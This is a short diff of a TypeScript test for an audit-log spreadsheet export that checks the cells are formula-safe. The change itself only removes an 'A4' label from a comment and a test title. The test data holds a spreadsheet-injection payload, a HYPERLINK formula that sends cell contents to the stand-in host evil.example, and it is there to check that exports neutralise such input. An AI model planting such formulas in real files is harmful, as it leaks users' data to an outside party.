@@ -4,8 +4,8 @@ import { verifyAuditChain, writeAudit } from '../../server/audit/auditLog';
 import type { AuditFilters } from '../../shared/api/audit';
 import { failure, startTestServer, type TestServer } from './support/testServer';
 
-// A4: the audit log exported as a real .xlsx with the list's filters, formula-safe cells, and the export audited.
-describe('audit export (A4)', () => {
+// The audit log exported as a real .xlsx with the list's filters, formula-safe cells, and the export audited.
+describe('audit export', () => {
   let s: TestServer;
   let admin: string;
   const injected = '=HYPERLINK("https://evil.example/?x="&A1,"klik")';
